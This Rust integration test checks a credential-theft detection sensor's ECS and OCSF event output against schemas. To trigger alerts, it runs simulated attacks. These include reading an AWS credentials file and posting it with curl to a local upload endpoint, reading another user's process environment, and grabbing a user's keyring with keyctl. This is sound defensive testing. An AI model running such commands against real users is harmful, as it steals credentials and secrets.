//! Output schemas: the real sensor with `--emit-events` writes ECS and OCSF side by side
//! (two file sinks) while real programs trigger every kind of document; every line of
//! both files must validate against the schemas in `tests/data/schemas/`, every
//! expected kind and class must be there, and each OCSF record must be the twin (same
//! sequence, same id) of an ECS document.

use std::{
    collections::{BTreeMap, BTreeSet},
    path::{Path, PathBuf},
    time::Duration,
};

use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
use jsonschema::Validator;
use serde_json::Value;
use tests::{
    Planted, Sensor, TempDir, http_server, is_action, is_alert, kernel_tests_enabled, sh, users::TestUser,
};

const WAIT: Duration = Duration::from_secs(20);
const AWS_SECRET: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
const ENV_TOKEN: &str = "ghp_Zq3vW8xYt2LmN9pQr4sTu7vWx0yZa1bC2dE3";

fn schema_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("data/schemas")
}

fn load(path: &Path) -> Value {
    let text = std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn compile(schema: &Value, name: &str) -> Validator {
    jsonschema::options()
        .should_validate_formats(true)
        .build(schema)
        .unwrap_or_else(|e| panic!("schema {name} does not compile: {e}"))
}

/// The OCSF class schemas by `class_uid`, each with the shared object `$defs`.
fn ocsf_validators() -> BTreeMap<u64, Validator> {
    let dir = schema_dir().join("ocsf-1.3.0");
    let objects = load(&dir.join("objects.schema.json"));
    let classes = [
        (2004, "detection_finding"),
        (1001, "file_activity"),
        (1007, "process_activity"),
        (4001, "network_activity"),
        (4003, "dns_activity"),
        (6002, "application_lifecycle"),
        (0, "base_event"),
    ];
    classes
        .into_iter()
        .map(|(uid, name)| {
            let mut s = load(&dir.join(format!("{name}.schema.json")));
            s["$defs"] = objects["$defs"].clone();
            (uid, compile(&s, name))
        })
        .collect()
}

fn errors(v: &Validator, doc: &Value) -> Vec<String> {
    v.iter_errors(doc).map(|e| format!("{} at {}", e, e.instance_path())).collect()
}

fn lines(path: &Path) -> Vec<Value> {
    let text = std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    text.lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}")))
        .collect()
}

fn jwt(sub: &str) -> String {
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).expect("clock").as_secs();
    let h = URL_SAFE_NO_PAD.encode(r#"{"alg":"RS256","typ":"JWT"}"#);
    let c = URL_SAFE_NO_PAD.encode(format!(
        r#"{{"iss":"https://idp.test","sub":"{sub}","aud":"api","iat":{now},"exp":{}}}"#,
        now + 600
    ));
    format!("{h}.{c}.{}", URL_SAFE_NO_PAD.encode(format!("signature-of-{sub}-0123456789")))
}

/// `(event.kind, event.action)` of an ECS document.
fn kind_action(d: &Value) -> (String, String) {
    let s = |v: &Value| v.as_str().unwrap_or_default().to_string();
    (s(&d["event"]["kind"]), s(&d["event"]["action"]))
}

#[test]
fn every_document_kind_validates_against_the_ecs_and_ocsf_schemas() {
    let Some(_serial) = kernel_tests_enabled("output-schemas") else { return };
    let ecs_schema = compile(&load(&schema_dir().join("ecs-8.11.schema.json")), "ecs");
    let ocsf = ocsf_validators();

    let user = TestUser::create("osch");
    let store = user.write_file(
        ".aws/credentials",
        &format!(
            "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = {AWS_SECRET}\n"
        ),
    );
    let kube = user.write_file(".kube/config", "apiVersion: v1\nkind: Config\n");
    let planted = Planted::new("/usr/bin/cat", "/usr/local/bin/kubectl");
    let out = user
        .sh(&format!("GITHUB_TOKEN={ENV_TOKEN} setsid sleep 120 >/dev/null 2>&1 & echo $!"))
        .output()
        .expect("victim");
    let victim: u32 = String::from_utf8_lossy(&out.stdout).trim().parse().expect("victim pid");
    let srv = http_server();

    let dir = TempDir::new("output-schemas");
    std::fs::set_permissions(dir.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("chmod");
    let ocsf_path = dir.path().join("ocsf.jsonl");
    let config = dir.path().join("tokenwarden.toml");
    std::fs::write(
        &config,
        format!("[[sink]]\ntype = \"file\"\npath = \"{}\"\nformat = \"ocsf\"\n", ocsf_path.display()),
    )
    .expect("config");
    let sensor = Sensor::start(&["--emit-events", "--config", &config.display().to_string()]);
    sensor.wait_for("sensor-started", WAIT, |d| is_action(d, "sensor-started"));

    // An allowed open (the default pack allows kubectl for kube config): an event.
    user.run(&format!("{} {} >/dev/null", planted.path.display(), kube.display()));
    // An open alert, and exec events for every program here.
    user.run(&format!("cat {} >/dev/null", store.display()));
    // A request carrying a bearer token: connect and credential-use events.
    let token = jwt("schemas");
    sh(&format!("curl -s -H 'Authorization: Bearer {token}' http://127.0.0.1:{}/api -o /dev/null", srv.1));
    // Store read then sent by the same lineage: a network (exfiltration) alert.
    user.run(&format!(
        "T=$(cat .aws/credentials); curl -s -d \"$T\" http://127.0.0.1:{}/upload -o /dev/null",
        srv.1
    ));
    // Root reading another user's process environment: a session alert.
    sh(&format!("cat /proc/{victim}/environ > /dev/null"));
    // Root taking the user's persistent keyring: a syscall-based session alert.
    sh(&format!("keyctl get_persistent @s {} > /dev/null", user.uid));
    // A DNS question (DNS Activity) and a unix-socket connect (a non-IP destination).
    let unix_sock = dir.path().join("s.sock");
    let script = format!(
        r#"
import socket, struct
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in "schemas.tokenwarden.test".split(".")) + b"\x00\x00\x01\x00\x01"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ("127.0.0.1", 53))
srv = socket.socket(socket.AF_UNIX); srv.bind("{unix}"); srv.listen(1)
socket.socket(socket.AF_UNIX).connect("{unix}")
"#,
        unix = unix_sock.display()
    );
    let out = std::process::Command::new("python3").arg("-c").arg(script).output().expect("python");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    sensor.wait_for("allowed open event", WAIT, |d| {
        d["event"]["kind"] == "event"
            && is_action(d, "credential-store-opened")
            && d["file"]["path"] == kube.display().to_string()
    });
    sensor
        .wait_for("credential use", WAIT, |d| is_action(d, "credential-used") && d["url"]["path"] == "/api");
    sensor.wait_for("exfiltration", WAIT, |d| is_action(d, "credential-exfiltration"));
    sensor.wait_for("environ alert", WAIT, |d| is_alert(d) && d["rule"]["id"] == "proc-environ-other-user");
    sensor.wait_for("keyring alert", WAIT, |d| is_action(d, "kerberos-keyring-access"));
    sensor.wait_for("dns query", WAIT, |d| is_action(d, "dns-query"));
    sensor.stats();
    let logs = sensor.stderr();
    let ecs_docs = sensor.stop();
    let ocsf_docs = lines(&ocsf_path);
    sh(&format!("kill {victim} || true"));

    // Every line of both files validates.
    let mut failures = Vec::new();
    for d in &ecs_docs {
        let errs = errors(&ecs_schema, d);
        if !errs.is_empty() {
            failures.push(format!("ECS {:?}: {errs:?}\n  {d}", kind_action(d)));
        }
    }
    for d in &ocsf_docs {
        let class = d["class_uid"].as_u64().unwrap_or(u64::MAX);
        match ocsf.get(&class) {
            Some(v) => {
                let errs = errors(v, d);
                if !errs.is_empty() {
                    failures.push(format!("OCSF class {class}: {errs:?}\n  {d}"));
                }
            }
            None => failures.push(format!("OCSF class {class} has no schema: {d}")),
        }
    }
    assert!(failures.is_empty(), "{} invalid documents:\n{}", failures.len(), failures.join("\n"));

    // Each OCSF record is the twin of the ECS document with its sequence number.
    assert_eq!(ecs_docs.len(), ocsf_docs.len(), "one OCSF record per ECS document");
    let by_seq: BTreeMap<u64, &Value> =
        ecs_docs.iter().map(|d| (d["event"]["sequence"].as_u64().expect("sequence"), d)).collect();
    assert_eq!(by_seq.len(), ecs_docs.len(), "sequence numbers are unique");
    let mut seen_classes = BTreeSet::new();
    for (ecs, o) in ecs_docs.iter().zip(&ocsf_docs) {
        let seq = o["metadata"]["sequence"].as_u64().expect("OCSF metadata.sequence");
        assert_eq!(ecs["event"]["sequence"], seq, "same order, same sequence in both files");
        let twin = by_seq[&seq];
        assert_eq!(o["metadata"]["uid"], twin["event"]["id"]);
        assert_eq!(o["metadata"]["event_code"], twin["event"]["action"]);
        assert_eq!(o["metadata"]["original_time"], twin["@timestamp"]);
        assert_eq!(o["device"]["hostname"], twin["host"]["name"]);
        let expected_class = match twin["event"]["kind"].as_str() {
            Some("alert") => 2004,
            Some("state") => 6002,
            _ => o["class_uid"].as_u64().filter(|c| [1001, 1007, 4001, 4003].contains(c)).unwrap_or(0),
        };
        assert_eq!(o["class_uid"], expected_class, "{} → {o}", twin["event"]["action"]);
        if let Some(pid) = twin["process"]["pid"].as_u64() {
            let actor =
                if o["class_uid"] == 1007 { &o["process"]["pid"] } else { &o["actor"]["process"]["pid"] };
            assert_eq!(*actor, pid, "the process is carried over: {o}");
        }
        assert_eq!(o["unmapped"]["tokenwarden"], twin["tokenwarden"], "tokenwarden.* kept whole");
        seen_classes.insert((
            o["class_uid"].as_u64().unwrap_or_default(),
            o["activity_id"].as_u64().unwrap_or_default(),
        ));
    }

    // Every kind of document was produced, and mapped to its class and activity.
    let seen: BTreeSet<(String, String)> = ecs_docs.iter().map(kind_action).collect();
    for (kind, action) in [
        ("state", "sensor-started"),
        ("state", "sensor-stats"),
        ("state", "sensor-stopped"),
        ("event", "exec"),
        ("event", "credential-store-opened"),
        ("event", "connection-attempted"),
        ("event", "credential-used"),
        ("alert", "credential-store-opened"),
        ("alert", "credential-exfiltration"),
        ("alert", "kerberos-keyring-access"),
        ("event", "dns-query"),
    ] {
        assert!(seen.contains(&(kind.to_string(), action.to_string())), "no {kind} {action} in {seen:?}");
    }
    for (class, activity, what) in [
        (6002, 3, "Application Lifecycle: Start"),
        (6002, 4, "Application Lifecycle: Stop"),
        (6002, 99, "Application Lifecycle: Other (stats)"),
        (1007, 1, "Process Activity: Launch"),
        (1001, 14, "File System Activity: Open"),
        (4001, 1, "Network Activity: Open"),
        (4001, 6, "Network Activity: Traffic"),
        (4003, 1, "DNS Activity: Query"),
        (2004, 1, "Detection Finding: Create"),
    ] {
        assert!(seen_classes.contains(&(class, activity)), "no {what} in {seen_classes:?}");
    }

    // The findings carry what the analyst needs.
    let finding = |pred: &dyn Fn(&Value) -> bool| {
        ocsf_docs.iter().find(|o| o["class_uid"] == 2004 && pred(o)).cloned().expect("finding")
    };
    let environ = finding(&|o| o["finding_info"]["analytic"]["uid"] == "proc-environ-other-user");
    assert!(environ["finding_info"]["attacks"].as_array().is_some_and(|a| !a.is_empty()), "{environ}");
    assert!(
        environ["evidences"].as_array().expect("evidences").iter().any(|e| e["process"]["pid"] == victim),
        "the victim process is evidence: {environ}"
    );
    let exfil = finding(&|o| o["metadata"]["event_code"] == "credential-exfiltration");
    let techniques: Vec<&Value> = exfil["finding_info"]["attacks"]
        .as_array()
        .expect("attacks")
        .iter()
        .map(|a| &a["technique"]["uid"])
        .collect();
    assert!(techniques.contains(&&Value::from("T1041")), "{exfil}");
    assert!(exfil["severity_id"].as_u64().is_some_and(|s| (2..=5).contains(&s)));
    let traffic = ocsf_docs
        .iter()
        .find(|o| o["metadata"]["event_code"] == "credential-used" && o["url"]["path"] == "/api")
        .expect("credential use in OCSF");
    assert_eq!(traffic["url"]["url_string"], format!("http://127.0.0.1:{}/api", srv.1));
    assert_eq!(traffic["dst_endpoint"]["port"], srv.1);
    let open_alert = finding(&|o| o["evidences"][0]["file"]["path"] == store.display().to_string());
    assert_eq!(open_alert["actor"]["process"]["file"]["path"], "/usr/bin/cat");

    // No raw secret anywhere.
    let ecs_text: String = ecs_docs.iter().map(Value::to_string).collect();
    let ocsf_text = std::fs::read_to_string(&ocsf_path).expect("ocsf file");
    for (name, text) in [("ECS", &ecs_text), ("OCSF", &ocsf_text), ("logs", &logs)] {
        for secret in [AWS_SECRET, ENV_TOKEN, token.as_str()] {
            assert!(!text.contains(secret), "{name} output contains a raw secret");
        }
    }
}
